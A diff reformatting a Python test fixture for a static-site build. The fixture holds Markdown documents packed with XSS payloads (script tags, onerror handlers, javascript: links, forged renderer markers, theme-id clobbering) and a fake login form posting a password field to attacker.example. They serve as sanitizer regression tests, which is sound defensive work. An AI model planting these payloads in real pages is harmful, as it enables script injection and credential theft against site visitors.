@@ -2,6 +2,7 @@
 build's framing, shadow the theme's ids or rewrite text into markup. `check` accepts all of it (it is content an
 author may write); the build must publish it with nothing live. Each payload calls alert() with its own name,
 so a test that listens for dialogs says which one ran."""
+
 from __future__ import annotations
 
 from pathlib import Path
@@ -12,84 +13,109 @@ ZEROS = "0" * 32
 
 # (file name, title, body): one paper per class of attack.
 PAPERS = {
-    "2.0-forged-island.md": ("Forged framing", "\n".join([
-        "The renderer converts only marked Markdown; these try to end the marked part early.",
-        "",
-        "<!--/bp:markdown-->",
-        "<script>alert('forged-plain')</script>",
-        "<!--bp:markdown-->",
-        "",
-        f"<!--/bp:markdown:{ZEROS}-->",
-        "<img src=https://invalid.invalid/x.png onerror=\"alert('forged-token')\">",
-        f"<!--bp:markdown:{ZEROS}-->",
-        "",
-        "Text after the forged markers.",
-    ])),
-    "3.0-raw-html.md": ("Raw HTML", "\n".join([
-        "<script>alert('script')</script>",
-        "",
-        "<img src=\"https://invalid.invalid/x.png\" onerror=\"alert('onerror')\">",
-        "",
-        "<a href=\"javascript:alert('js-link')\">a javascript link</a>",
-        "",
-        "[markdown js link](javascript:alert('md-js-link'))",
-        "",
-        "<a href=\"data:text/html,<script>alert('data-link')</script>\">a data link</a>",
-        "",
-        "<iframe src=\"javascript:alert('iframe')\"></iframe>",
-        "",
-        "<svg onload=\"alert('svg')\"><circle r=\"1\"/></svg>",
-        "",
-        "<math><mi xlink:href=\"javascript:alert('math')\">m</mi></math>",
-        "",
-        "<object data=\"javascript:alert('object')\"></object><embed src=\"javascript:alert('embed')\">",
-        "",
-        "<base href=\"https://attacker.example/\"><meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('meta')\">",
-        "",
-        "<style>body{background:url(\"javascript:alert('style')\")}</style>",
-        "",
-        "<details open ontoggle=\"alert('ontoggle')\"><summary>s</summary>d</details>",
-        "",
-        "<p style=\"position:fixed;top:0\" onclick=\"alert('onclick')\">Click me</p>",
-        "",
-        "<form action=\"https://attacker.example/steal\"><input type=\"password\" name=\"pw\">"
-        "<button formaction=\"javascript:alert('formaction')\">Log in</button></form>",
-        "",
-        "<![CDATA[<script>alert('cdata')</script>]]>",
-        "",
-        "<noscript><p title=\"</noscript><img src=https://invalid.invalid/x.png onerror=alert('noscript')>\"></noscript>",
-        "",
-        "`<script>alert('code')</script>` stays text.",
-    ])),
-    "4.0-ids.md": ("Ids that are the theme's", "\n".join([
-        "<div id=\"__config\">{\"base\": \"https://attacker.example\", \"features\": [\"navigation.instant\"]}</div>",
-        "",
-        "<p id=\"__search\">search toggle</p><p id=\"__drawer\">drawer toggle</p>",
-        "",
-        "<span id=\"bp-search-q\">a search field</span> <a id=\"md-header\" href=\"#__search\">header</a>",
-        "",
-        "## __toc",
-        "",
-        "## Agenda",
-        "",
-        "A heading above whose slug is the theme's.",
-    ])),
+    "2.0-forged-island.md": (
+        "Forged framing",
+        "\n".join(
+            [
+                "The renderer converts only marked Markdown; these try to end the marked part early.",
+                "",
+                "<!--/bp:markdown-->",
+                "<script>alert('forged-plain')</script>",
+                "<!--bp:markdown-->",
+                "",
+                f"<!--/bp:markdown:{ZEROS}-->",
+                "<img src=https://invalid.invalid/x.png onerror=\"alert('forged-token')\">",
+                f"<!--bp:markdown:{ZEROS}-->",
+                "",
+                "Text after the forged markers.",
+            ]
+        ),
+    ),
+    "3.0-raw-html.md": (
+        "Raw HTML",
+        "\n".join(
+            [
+                "<script>alert('script')</script>",
+                "",
+                '<img src="https://invalid.invalid/x.png" onerror="alert(\'onerror\')">',
+                "",
+                "<a href=\"javascript:alert('js-link')\">a javascript link</a>",
+                "",
+                "[markdown js link](javascript:alert('md-js-link'))",
+                "",
+                "<a href=\"data:text/html,<script>alert('data-link')</script>\">a data link</a>",
+                "",
+                "<iframe src=\"javascript:alert('iframe')\"></iframe>",
+                "",
+                '<svg onload="alert(\'svg\')"><circle r="1"/></svg>',
+                "",
+                "<math><mi xlink:href=\"javascript:alert('math')\">m</mi></math>",
+                "",
+                "<object data=\"javascript:alert('object')\"></object><embed src=\"javascript:alert('embed')\">",
+                "",
+                '<base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(\'meta\')">',
+                "",
+                "<style>body{background:url(\"javascript:alert('style')\")}</style>",
+                "",
+                "<details open ontoggle=\"alert('ontoggle')\"><summary>s</summary>d</details>",
+                "",
+                '<p style="position:fixed;top:0" onclick="alert(\'onclick\')">Click me</p>',
+                "",
+                '<form action="https://attacker.example/steal"><input type="password" name="pw">'
+                "<button formaction=\"javascript:alert('formaction')\">Log in</button></form>",
+                "",
+                "<![CDATA[<script>alert('cdata')</script>]]>",
+                "",
+                "<noscript><p title=\"</noscript><img src=https://invalid.invalid/x.png onerror=alert('noscript')>\"></noscript>",
+                "",
+                "`<script>alert('code')</script>` stays text.",
+            ]
+        ),
+    ),
+    "4.0-ids.md": (
+        "Ids that are the theme's",
+        "\n".join(
+            [
+                '<div id="__config">{"base": "https://attacker.example", "features": ["navigation.instant"]}</div>',
+                "",
+                '<p id="__search">search toggle</p><p id="__drawer">drawer toggle</p>',
+                "",
+                '<span id="bp-search-q">a search field</span> <a id="md-header" href="#__search">header</a>',
+                "",
+                "## __toc",
+                "",
+                "## Agenda",
+                "",
+                "A heading above whose slug is the theme's.",
+            ]
+        ),
+    ),
     "5.0-front-matter.md": ("</title><script>alert('title')</script>", "A body."),
-    "6.0-bundle-text.md": ("Text that looks like attributes", "\n".join([
-        "Quoted in code: `<a href=\"<img src=https://invalid.invalid/x.png onerror=alert('bundle-code')>\">`.",
-        "",
-        "Quoted in prose: the tag had href=\"&lt;img src=https://invalid.invalid/x.png onerror=alert('bundle-prose')&gt;\" in it.",
-        "",
-        "An entity in a link: <a href=\"#&quot;&gt;&lt;img src=https://invalid.invalid/x.png onerror=alert('bundle-href')&gt;\">x</a>",
-    ])),
-    "7.0-links.md": ("Links to a published paper in every form", "\n".join([
-        "[inline](9.0-southern-police-station.md), [with a title](9.0-southern-police-station.md \"t\"),",
-        "[upper case](9.0-southern-police-station.MD), [with a query](9.0-southern-police-station.md?x=1#top),",
-        "[reference][ref], <a href=\"9.0-southern-police-station.md\">raw HTML</a>,",
-        "[the meeting](meeting.md), [its address](../2019-09-18/9.0-southern-police-station/).",
-        "",
-        "[ref]: 9.0-southern-police-station.md",
-    ])),
+    "6.0-bundle-text.md": (
+        "Text that looks like attributes",
+        "\n".join(
+            [
+                "Quoted in code: `<a href=\"<img src=https://invalid.invalid/x.png onerror=alert('bundle-code')>\">`.",
+                "",
+                "Quoted in prose: the tag had href=\"&lt;img src=https://invalid.invalid/x.png onerror=alert('bundle-prose')&gt;\" in it.",
+                "",
+                "An entity in a link: <a href=\"#&quot;&gt;&lt;img src=https://invalid.invalid/x.png onerror=alert('bundle-href')&gt;\">x</a>",
+            ]
+        ),
+    ),
+    "7.0-links.md": (
+        "Links to a published paper in every form",
+        "\n".join(
+            [
+                '[inline](9.0-southern-police-station.md), [with a title](9.0-southern-police-station.md "t"),',
+                "[upper case](9.0-southern-police-station.MD), [with a query](9.0-southern-police-station.md?x=1#top),",
+                '[reference][ref], <a href="9.0-southern-police-station.md">raw HTML</a>,',
+                "[the meeting](meeting.md), [its address](../2019-09-18/9.0-southern-police-station/).",
+                "",
+                "[ref]: 9.0-southern-police-station.md",
+            ]
+        ),
+    ),
 }
 
 # Front-matter fields that reach the page head, headings, lists and feeds, each trying to become markup.
